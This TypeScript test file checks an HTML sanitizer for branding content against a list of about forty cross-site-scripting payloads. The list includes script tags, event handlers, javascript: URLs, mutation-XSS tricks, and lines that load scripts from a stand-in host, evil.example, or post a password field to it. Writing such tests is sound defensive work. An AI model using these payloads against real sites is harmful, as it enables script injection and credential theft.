import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cleanBranding } from './branding.ts';

/** HTML that runs a script, loads a page, sends a form or changes the look of the page. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="javascript:alert(1)">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14;javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<b onmouseover=alert(1) style="background:url(javascript:alert(1))">x</b>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src=//evil.example>',
  '<form action=//evil.example><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<b id=login name=api class=mantine-Button>x</b>',
  '<p><b>never closed',
];

describe('branding', () => {
  for (const html of hostile) {
    it(`sanitizes ${html}`, async () => {
      const clean = await cleanBranding(html);
      const tags = [...clean.matchAll(/<([a-z]+)([^>]*)>/gi)];
      assert.doesNotMatch(clean.replace(/<\/?[a-z]+[^>]*>/gi, ''), /</, clean);
      for (const [tag, name, attributes] of tags) {
        assert.match(name!, /^(a|b|br|img|p|span)$/, tag);
        for (const [, attribute, value] of attributes!.matchAll(/([\w-]+)="([^"]*)"/g)) {
          assert.match(attribute!, /^(href|rel|src|title|alt)$/, tag);
          if (attribute === 'href') assert.match(value!, /^https?:/, tag);
          if (attribute === 'src') assert.match(value!, /^(x|https:)/, tag);
        }
        assert.match(attributes!.replace(/ [\w-]+="[^"]*"/g, ''), /^ ?\/?$/, tag);
      }
    });
  }

  it('keeps formatting and links', async () => {
    for (const html of [
      '<p>Ask <a href="mailto:help@example.org" rel="noopener noreferrer">us</a> <strong>first</strong>.</p>',
      '<ul><li><a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a></li></ul>',
      '<img src="https://example.org/logo.png" alt="Logo" width="80" height="20" />',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />',
      '',
    ])
      assert.equal(await cleanBranding(html), html);
  });
});
